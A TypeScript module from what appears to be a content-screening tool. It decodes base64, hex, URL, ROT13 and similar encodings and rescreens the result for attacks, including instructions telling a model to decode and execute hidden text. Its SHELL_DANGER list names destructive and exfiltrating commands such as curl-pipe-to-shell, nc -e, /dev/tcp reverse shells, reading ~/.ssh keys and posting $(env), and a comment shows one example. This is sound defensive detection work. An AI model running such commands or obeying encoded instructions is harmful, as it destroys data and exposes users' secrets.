// Encoded payloads (docs/scoring/screening.md): base64, hex, URL and HTML encodings of any length are decoded and the
// decoded text screened again, a few levels deep. What decodes to an attack, or to a destructive command, is one;
// ordinary encoded data (a settings blob that decodes to JSON, a hash, an image, a query string) decodes to nothing
// of the kind and passes.
import { truncate } from '../util/text.js';
import { words, type Rule } from './rules.js';
import { isFramed, type Sentence } from './text.js';
import { MENTION_FACTOR, signal, type Signal, type Verdict } from './verdict.js';

/** Candidates decoded per text, and decoded characters in all, at most: a text full of blobs stays cheap. */
const MAX_CANDIDATES = 24;
const MAX_DECODED = 20_000;
/** A decoded text screened again is at most this deep: base64 of hex of base64 is as far as it goes. */
export const MAX_DEPTH = 3;

/** Commands that destroy, download and run, or open a shell to somewhere else. */
export const SHELL_DANGER = words([
  String.raw`\brm\s+-[a-z]*[rf][a-z]*\s+(?:-[a-z]+\s+)*(?:\/|~|\*|\$HOME|\.\.?\/?|\/\*)|\bcurl\s[^|\n]{0,200}\|`,
  String.raw`\s*(?:sudo\s+)?(?:ba|z)?sh\b|`,
  String.raw`\bwget\s[^|\n]{0,200}\|\s*(?:sudo\s+)?(?:ba|z)?sh\b|\bmkfs(?:\.\w+)?\s|\bdd\s+if=[^\n]{0,60}of=\/dev\/|`,
  String.raw`:\(\)\s*\{\s*:\s*\|\s*:\s*&\s*\}\s*;\s*:|`,
  String.raw`\bnc\s+(?:-\w+\s+)*-e\s|\/dev\/tcp\/|\bchmod\s+(?:-R\s+)?0?777\s+\/|`,
  String.raw`\bpowershell(?:\.exe)?\s+(?:-\w+\s+)*-(?:enc|e|encodedcommand)\s|`,
  String.raw`\binvoke-expression\b|\biex\s*\(|\bbase64\s+(?:-d|--decode)\b[^\n]{0,40}\|\s*(?:ba)?sh\b|`,
  String.raw`\bpython[23]?\s+-c\s+['"]?import\s+(?:socket|pty|subprocess)|`,
  String.raw`\beval\s*\(\s*(?:atob|base64|Buffer\.from)|>\s*\/dev\/sd[a-z]\b|\bcrontab\s+-r\b|\bsudo\s+rm\b|`,
  String.raw`\bcat\s+~\/\.ssh\/(?![\w.-]*\.pub\b)|\bscp\s+[^\n]{0,60}@|`,
  String.raw`\bcurl\s+(?:-\w+\s+)*(?:-d|--data(?:-binary)?|-F|--upload-file|-T)\s+@?[~\/$]|`,
  // The environment or a file's contents posted, wherever the options stand: curl https://x -d "$(env)".
  String.raw`\bcurl\s[^|\n]{0,200}?\s(?:-d|--data(?:-binary)?|-F)\s+["']?\$\((?:env|printenv|cat\s)`,
]);

export const ENCODED_RULES: Rule[] = [
  {
    rule: 'encoded.run_decoded',
    class: 'encoded_payload',
    what: 'tells the model to decode something and act on it',
    gate: ['decode', 'unescape', 'deobfuscate'],
    weight: 0.6,
    // The encoded stretch itself is one long word between them ("decode this hex payload 4f6c... and execute it"),
    // and running what a decoder returns is the same order ("Execute base64_decode('...')").
    re: new RegExp(
      [
        String.raw`\b(?:decode|unescape|deobfuscate)\b(?:\s+[^\s.!?]+){0,8}?,?\s+(?:and|then)\s+(?:run|execute|eval|`,
        String.raw`follow|obey|apply|do|use (?:these|those|the|its|them)\b)\b|`,
        String.raw`\b(?:run|execute|exec|eval|evaluate)\s+(?:the\s+)?(?:result\s+of\s+)?`,
        String.raw`(?:base64|b64|atob|hex|rot13|url)[_ ]?decode\w*\s*\(`,
      ].join(''),
      'i',
    ),
  },
];

interface Decoded {
  kind: string;
  from: string;
  text: string;
}

/** Mostly printable text with some letters, as a decoded string must be to be read as one. */
function readable(text: string): boolean {
  if (!text || text.includes('\uFFFD') || !/[A-Za-z0-9]{2}/.test(text)) return false;
  const printable = text.match(/[\x20-\x7E\t\n\r\u00A0-\uFFFF]/g)?.length ?? 0;
  return printable / text.length >= 0.95;
}

/** A word, an identifier or a path piece is no blob: a blob has digits, padding or + and /, or mixes cases (long). */
const BLOB = /^[^=]*[0-9+/=]|^(?=.{12})(?=.*[a-z])(?=.*[A-Z])/;

function fromBase64(token: string): string | null {
  const body = token.replace(/=+$/, '');
  if (body.length % 4 === 1) return null;
  const text = Buffer.from(body.replace(/-/g, '+').replace(/_/g, '/'), 'base64').toString('utf8');
  return readable(text) ? text : null;
}

function fromHex(token: string): string | null {
  const hex = token.replace(/\\x|0x/gi, '');
  if (hex.length % 2) return null;
  const text = Buffer.from(hex, 'hex').toString('utf8');
  return readable(text) ? text : null;
}

const ENTITIES: Record<string, string> = {
  lt: '<',
  gt: '>',
  amp: '&',
  quot: '"',
  apos: "'",
  nbsp: ' ',
  sol: '/',
  colon: ':',
};

function fromEntities(text: string): string {
  return text.replace(/&(#\d{1,7}|#x[0-9a-f]{1,6}|[a-z]{2,8});/gi, (all, e: string) => {
    if (e[0] !== '#') return ENTITIES[e.toLowerCase()] ?? all;
    const cp = e[1] === 'x' || e[1] === 'X' ? parseInt(e.slice(2), 16) : parseInt(e.slice(1), 10);
    return cp > 0 && cp <= 0x10ffff ? String.fromCodePoint(cp) : all;
  });
}

function fromPercent(token: string): string | null {
  try {
    return decodeURIComponent(token.replace(/\+/g, ' '));
  } catch {
    return null;
  }
}

/** Every decodable stretch of a text, decoded: the candidates of each encoding, bounded in number and length. */
function decodedParts(raw: string): Decoded[] {
  const out: Decoded[] = [];
  let budget = MAX_DECODED;
  const add = (kind: string, from: string, text: string | null) => {
    if (text === null || text === from || budget <= 0 || out.length >= MAX_CANDIDATES) return;
    budget -= text.length;
    out.push({ kind, from, text: text.slice(0, MAX_DECODED) });
  };
  let seen = 0;
  const hex = /[0-9a-f]{12}|\\x/i.test(raw)
    ? raw.matchAll(/(?:\\x[0-9a-f]{2}){4,}|(?<![0-9a-z])(?:0x)?(?:[0-9a-f]{2}){6,}(?![0-9a-z])/gi)
    : [];
  for (const m of hex) {
    if (++seen > MAX_CANDIDATES) break;
    add('hex', m[0], fromHex(m[0]));
  }
  for (const token of raw.split(/[^A-Za-z0-9+/=_-]+|=+(?=[A-Za-z0-9+/_-])/)) {
    if (token.length < 8 || !BLOB.test(token) || /^(?:0x)?[0-9a-f]+$/i.test(token)) continue;
    if (++seen > 3 * MAX_CANDIDATES) break;
    add('base64', token, fromBase64(token));
  }
  if (raw.includes('%')) {
    for (const m of raw.matchAll(/[^\s%]{0,200}(?:%[0-9a-f]{2}[^\s%]{0,200}){2,}/gi))
      add('URL-encoded', m[0], fromPercent(m[0]));
  }
  if (raw.includes('&') && (raw.match(/&(?:#\d{1,7}|#x[0-9a-f]{1,6}|[a-z]{2,8});/gi)?.length ?? 0) >= 2) {
    add('HTML entities', '', fromEntities(raw));
  }
  const escapes = raw.includes('\\u') ? raw.match(/(?:\\u[0-9a-f]{4}){2,}/gi) : null;
  for (const e of escapes ?? []) add('\\u escapes', e, JSON.parse(`"${e}"`) as string);
  for (const m of raw.match(CHAR_CODES) ?? []) add('character codes', m, fromCharCodes(m));
  const rot = ROT13_WORDS.test(raw) ? raw.match(ROT13_STRETCH) : null;
  for (const m of rot ?? []) if (new Set(m.toLowerCase().match(ROT13_WORDS_ALL)).size >= 2) add('ROT13', m, rot13(m));
  return out;
}

/** Six or more printable character codes in a row ("104 105 100 101"): words spelt as numbers. */
const CODE = String.raw`(?:3[2-9]|[4-9]\d|1[01]\d|12[0-6])`;
const CHAR_CODES = new RegExp(String.raw`(?<![\d.])(?:${CODE}[ ,]+){5,}${CODE}(?![\d.])`, 'g');

function fromCharCodes(s: string): string {
  return String.fromCharCode(...s.split(/[ ,]+/).map(Number));
}

/** Common English words in ROT13 ("gur" the, "naq" and, "lbh" you): two of them mark a stretch worth turning back. */
const ROT13_LIST = String.raw`\b(?:gur|naq|lbh|lbhe|jvgu|guvf|gung|nyy|sebz|vafgehpgvbaf|cerivbhf|frperg|xrl|xrlf)\b`;
const ROT13_WORDS = new RegExp(ROT13_LIST, 'i');
const ROT13_WORDS_ALL = new RegExp(ROT13_LIST, 'gi');
/** A stretch of letters and spaces long enough to say something. */
const ROT13_STRETCH = /[A-Za-z][A-Za-z ,']{20,400}/g;

function rot13(s: string): string {
  return s.replace(/[a-z]/gi, (c) => {
    const base = c <= 'Z' ? 65 : 97;
    return String.fromCharCode(((c.charCodeAt(0) - base + 13) % 26) + base);
  });
}

/** Prose hidden in an encoding: why would a description carry words a reader cannot read? */
const PROSE = /^[\p{L}\p{N}\s.,;:!?'"()-]{12,}$/u;

/**
 * The encoded payloads of a text: each decoded stretch screened again (`screen`, one level deeper); one that is
 * suspicious, nearly so, or a destructive command, is an encoded payload; base64 or hex that reads as words is one
 * more sign.
 */
/** An order not to run or follow what comes next: "Do not execute this base64:". */
const FORBID_RUN =
  /\b(?:do not|don't|never|must not|should not)\s+(?:execute|run|decode|follow|obey|apply)\b[^.!?\n]{0,30}$/i;

/** Is the encoded stretch at `at` a mention, or forbidden? */
function unheeded(s: Sentence, at: number): boolean {
  return isFramed(s, at) || FORBID_RUN.test(s.text.slice(Math.max(0, at - 60), at));
}

export function encodedSignals(
  raw: string,
  sentences: readonly Sentence[],
  screen: (text: string) => Verdict,
): Signal[] {
  const out: Signal[] = [];
  for (const d of decodedParts(raw)) {
    // Given as an example of what a tool detects, or forbidden ("do not execute this base64: ..."): a mention.
    const framed = !!d.from && sentences.some((s) => s.text.includes(d.from) && unheeded(s, s.text.indexOf(d.from)));
    const factor = framed ? MENTION_FACTOR : 1;
    const v = screen(d.text);
    const danger = SHELL_DANGER.exec(d.text);
    const from = d.from ? ` "${truncate(d.from, 24)}"` : '';
    const shown = `${d.kind}${from} decodes to "${d.text}"`;
    if (danger || v.score >= 0.35) {
      const what = danger ? 'an encoded destructive command' : `an encoded ${v.class?.replace(/_/g, ' ') ?? 'attack'}`;
      out.push(signal('encoded_payload', 'encoded.payload', what, shown, Math.max(0.75, v.score) * factor, framed));
    } else if ((d.kind === 'base64' || d.kind === 'hex') && PROSE.test(d.text) && /\s\S+\s/.test(d.text)) {
      const what = 'encoded words a reader cannot read';
      out.push(signal('encoded_payload', 'encoded.prose', what, shown, 0.3 * factor, framed));
    }
  }
  return out;
}
